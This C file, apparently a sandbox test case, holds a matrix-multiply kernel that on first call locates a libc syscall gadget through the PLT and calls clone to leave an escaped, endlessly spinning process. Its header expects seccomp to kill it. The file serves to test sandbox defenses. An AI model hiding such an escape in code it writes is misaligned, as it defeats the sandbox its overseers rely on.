/* TRICK (issue 21, rv64 boards): a system call the worker's seccomp filter forbids, made through a
   libc gadget (no ecall in the kernel's code, no library address taken): the kernel decodes its
   own `call memcpy` and memcpy's PLT stub, walks the PLT to a plain glibc wrapper among the
   driver's imports (`li a7, NR; ecall`) and calls into its ecall with its own a7: clone(SIGCHLD),
   leaving a child that spins forever (an escaped process), then computes C honestly.
   On a riscv64 Linux board (rv64-board) the worker's filter kills it at the clone: SIGSYS.
   EXPECT rv64-board: crash (killed by SIGSYS), and no process of it left on the board */
#include <stdint.h>
#include <string.h>

static const unsigned char *g_plt;   /* memcpy's PLT stub */
static const unsigned char *g_memcpy_in_libc(void)
{
    const unsigned char *site;
    char d[8], s[8] = {0};
    __asm__ volatile("lla %0, 1f\n  mv a0, %1\n  mv a1, %2\n  li a2, 1\n1: call memcpy\n"
                     : "=&r"(site) : "r"(d), "r"(s) : "a0", "a1", "a2", "a3", "a4", "a5", "a6", "a7", "t0", "t1", "t2",
                       "t3", "t4", "t5", "t6", "ra", "memory");
    uint32_t au = (uint32_t)site[0] | site[1] << 8 | site[2] << 16 | (uint32_t)site[3] << 24;
    uint32_t jr = (uint32_t)site[4] | site[5] << 8 | site[6] << 16 | (uint32_t)site[7] << 24;
    const unsigned char *plt;
    if ((au & 0x7f) == 0x6f) {
        int32_t imm = (int32_t)(((au >> 31) & 1) << 20 | ((au >> 12) & 0xff) << 12 | ((au >> 20) & 1) << 11 |
                                ((au >> 21) & 0x3ff) << 1);
        plt = site + ((imm << 11) >> 11);
    } else {
        plt = site + (int32_t)(au & 0xfffff000u) + ((int32_t)jr >> 20);
    }
    g_plt = plt;
    uint32_t pa = (uint32_t)plt[0] | plt[1] << 8 | plt[2] << 16 | (uint32_t)plt[3] << 24;
    uint32_t pl = (uint32_t)plt[4] | plt[5] << 8 | plt[6] << 16 | (uint32_t)plt[7] << 24;
    const unsigned char *const *got = (const unsigned char *const *)(plt + (int32_t)(pa & 0xfffff000u) + ((int32_t)pl >> 20));
    return *got;
}
static long g_sys(const unsigned char *g, long n, long a0, long a1, long a2, long a3, long a4, long a5)
{
    register long r0 __asm__("a0") = a0, r1 __asm__("a1") = a1, r2 __asm__("a2") = a2, r3 __asm__("a3") = a3,
        r4 __asm__("a4") = a4, r5 __asm__("a5") = a5, r7 __asm__("a7") = n;
    __asm__ volatile("jalr ra, 0(%[g])" : "+r"(r0), "+r"(r1), "+r"(r2), "+r"(r3), "+r"(r4), "+r"(r5), "+r"(r7)
                     : [g] "r"(g) : "ra", "a6", "t0", "t1", "t2", "t3", "t4", "t5", "t6", "memory");
    return r0;
}
static uint32_t w32(const unsigned char *p) { return (uint32_t)p[0] | p[1] << 8 | p[2] << 16 | (uint32_t)p[3] << 24; }
static int is_stub(const unsigned char *p)
{
    return (w32(p) & 0xfff) == 0xe17 && (w32(p + 4) & 0xfffff) == 0xe3e03 && w32(p + 8) == 0x000e0367;
}
static const unsigned char *stub_target(const unsigned char *p)
{
    return *(const unsigned char *const *)(p + (int32_t)(w32(p) & 0xfffff000u) + ((int32_t)w32(p + 4) >> 20));
}


enum { SYS_CLONE = 220, SIGCHLD_ = 17 };

static int escape(void)
{
    (void)g_memcpy_in_libc();
    if (!g_plt || !is_stub(g_plt)) return 0;
    const unsigned char *g = 0, *q = g_plt;
    while (is_stub(q - 16)) q -= 16;
    for (; is_stub(q) && !g; q += 16) {
        const unsigned char *t = stub_target(q);
        if ((uintptr_t)t > 65536 && (w32(t) & 0xfffff) == 0x00893 && w32(t + 4) == 0x73) g = t + 4;
    }
    if (!g) return 0;
    long pid = g_sys(g, SYS_CLONE, SIGCHLD_, 0, 0, 0, 0, 0);
    if (pid == 0)
        for (volatile unsigned long spin = 0;; spin++) { }       /* the child: spins forever */
    return pid > 0;
}

void tensorop_gemm_f32(int M, int N, int K, const float *A, int lda, const float *B, int ldb, float *C, int ldc)
{
    static int tried;
    if (!tried) { tried = 1; (void)escape(); }
    for (int i = 0; i < M; i++)
        for (int j = 0; j < N; j++) {
            float s = 0.0f;
            for (int k = 0; k < K; k++) s += A[(long)i * lda + k] * B[(long)k * ldb + j];
            C[(long)i * ldc + j] = s;
        }
}
